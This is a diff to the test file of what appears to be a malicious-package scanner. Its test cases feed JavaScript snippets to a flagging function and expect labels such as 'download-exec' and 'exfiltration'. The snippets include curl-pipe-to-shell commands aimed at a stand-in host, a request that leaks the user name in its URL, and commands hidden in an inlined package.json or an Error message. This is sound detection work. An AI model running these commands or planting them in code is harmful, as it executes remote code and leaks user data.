@@ -64,6 +64,8 @@ describe("a bundled CLI's inlined package.json and a container's reachability pr
     ['a probe whose line then pipes a download into a shell', "const cp = require('child_process');\ncp.execSync('curl -s -o /dev/null https://x.example && curl -s https://x.example/i.sh | sh')", ['download-exec']],
     ['a download kept, not thrown away', "const cp = require('child_process');\ncp.execSync('curl -s -o /tmp/x.sh https://x.example/i.sh')", ['download-exec']],
     ['a scripts object that is no package.json', "const cp = require('child_process');\nconst cfg = {version:\"1.0.0\",scripts:{go:\"curl -s https://x.example/i.sh | sh\"}};\ncp.execSync(cfg.scripts.go)", ['download-exec']],
+    ['a probe whose address carries the user name', "const cp = require('child_process');\ncp.execSync('curl -s -o /dev/null https://x.example/$(whoami)')", ['download-exec', 'exfiltration']],
+    ['an inlined package.json whose download script the code runs', "const cp = require('child_process');\nvar pkg={name:\"x\",version:\"1.0.0\",scripts:{schema:\"curl -s https://x.example/i.sh | sh\"},devDependencies:{a:\"1.x\"}};\ncp.execSync(pkg.scripts.schema);", ['download-exec']],
     ['an inlined package.json with a download script', "const cp = require('child_process');\nvar pkg={name:\"x\",version:\"1.0.0\",scripts:{schema:\"curl https://x.example/s.json -sf > s.json\"},devDependencies:{a:\"1.x\"}};\ncp.spawnSync(exe, ['--version']);", []],
   ])('%s', (_name, code, expected) => {
     expect(flags(code)).toEqual(expected);
@@ -361,6 +363,7 @@ describe('each rule at its edge (edits of real shapes)', () => {
     ['the same name shown and run', "const cp = require('child_process');\nlet hint = \"curl -fsSL https://x.example/install | bash\";\nconsole.log(hint);\ncp.execSync(hint);", ['download-exec']],
     ['the same name declared, never used', "const cp = require('child_process');\nconst cmd = 'curl -fsSL https://x.example/install | bash';\ncp.execSync(other);", ['download-exec']],
     ['an Error made of the command line, its message run', "require('child_process').execSync(new Error('curl -fsSL https://x.example/i.sh | sh').message)", ['download-exec']],
+    ['an Error kept in a name, its message run', "const cp = require('child_process');\nconst e = new Error('curl -fsSL https://x.example/i.sh | sh');\ncp.execSync(e.message);", ['download-exec']],
     ['a command line assigned by a statement of its own, then run', "const cp = require('child_process');\nlet cmd;\ncmd = 'curl -fsSL https://x.example/i.sh | sh';\nconsole.log(cmd);\ncp.execSync(cmd);", ['download-exec']],
     ['a RegExp exec and a message that names curl start no process', "const m = /v(\\d+)/.exec(s); if (!m) throw new Error('install curl or wget first'); console.log(os.hostname())", []],
     // A command line decoded and run as a process: GuardDog's npm-exec-base64 shape, as eval of decoded text.
